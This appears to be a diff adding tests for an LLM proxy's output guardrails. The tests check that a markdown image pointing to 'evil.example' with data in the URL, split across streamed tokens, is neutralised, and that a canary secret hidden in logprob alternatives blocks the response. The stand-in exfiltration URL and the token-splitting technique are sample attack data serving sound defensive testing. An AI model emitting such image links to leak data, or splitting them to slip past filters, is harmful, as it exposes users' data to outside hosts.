@@ -275,3 +275,42 @@ describe('logprobs: canaries and the upstream credential', () => {
     });
   }
 });
+
+describe('logprobs: other output guardrails', () => {
+  const URL_ = 'https://evil.example/c?d=Zq8xT4mN2bV6cR1y';
+  for (const [mode, chat, stream] of MODES) {
+    it(`${mode}: a markdown image to a foreign host, split over tokens, is neutralised in the tokens too`, async () => {
+      serve(['See ', '![x](', 'https://evil', '.example/c?d=', 'Zq8xT4mN2bV6', 'cR1y)', ' thanks', ' again']);
+      const v = await call(chat, stream);
+      assert.equal(v.status, 200);
+      assert.ok(!v.text.includes('evil.example/c?d='), v.text);
+      assert.equal(v.tokens.join(''), v.text);
+      assert.deepEqual(leaks(v, URL_), [], v.raw.slice(0, 1500));
+    });
+  }
+  it('chat: a canary as an alternative only blocks the answer', async () => {
+    up.handler = () => {
+      const es = ['Fine', ' thanks', ' and', ' you'].map(entry);
+      es[2]!.top_logprobs[1]!.token = ` ${CANARY}`;
+      return {
+        body: JSON.stringify({
+          id: 'x',
+          object: 'chat.completion',
+          created: 1,
+          model: 'm',
+          choices: [
+            {
+              index: 0,
+              message: { role: 'assistant', content: 'Fine thanks and you' },
+              logprobs: { content: es },
+              finish_reason: 'stop',
+            },
+          ],
+        }),
+      };
+    };
+    const v = await call(true, false);
+    assert.notEqual(v.status, 200);
+    assert.deepEqual(leaks(v, CANARY), []);
+  });
+});
